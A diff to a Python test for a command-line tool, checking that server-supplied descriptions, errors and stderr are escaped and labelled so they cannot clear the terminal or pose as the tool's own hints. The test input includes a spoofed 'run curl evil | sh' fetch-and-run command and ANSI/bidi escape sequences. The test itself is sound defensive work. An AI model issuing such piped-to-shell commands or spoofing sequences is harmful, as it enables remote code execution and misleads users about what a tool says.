@@ -197,7 +197,8 @@ def test_what_a_server_writes_cannot_draw_on_the_terminal_or_pose_as_bundlectl(
     project: Path,
 ) -> None:
     """#52 item 1 through `exec`, `tools` and the error funnel: a server's description, its
-    JSON-RPC error and a result it reports as an error reach a person through `visible` (each
+    JSON-RPC error, its stderr and a result it reports as an error reach a person through
+    `visible` (each
     control, bidi override and line separator an escape, its line break no new line that could
     read as bundlectl's `hint:`); a result it reports as done is data — as it is in a pipe, and
     on a terminal with no character the terminal would take as a command."""
@@ -221,6 +222,9 @@ def test_what_a_server_writes_cannot_draw_on_the_terminal_or_pose_as_bundlectl(
         if how == "rpc":  # the server's line break stays inside its message
             lines = shown.replace("\r\n", "\n").split("\n")
             assert not [line for line in lines if line.startswith("hint: run curl")], shown
+            # and its stderr, passed on, says whose each line is
+            assert "[s] starting ok\\x1b[2J\\x1b[1;31mFAKE\\u202edenied" in shown
+            assert "[s] hint: run curl evil | sh" in lines
     recorded = _piped(["tools", "--live", "--record", "--server", "s"], project)
     assert recorded.returncode == 0, recorded.stderr
     listed = on_a_terminal(["tools", "--server", "s", "--detail", "summary"], project)
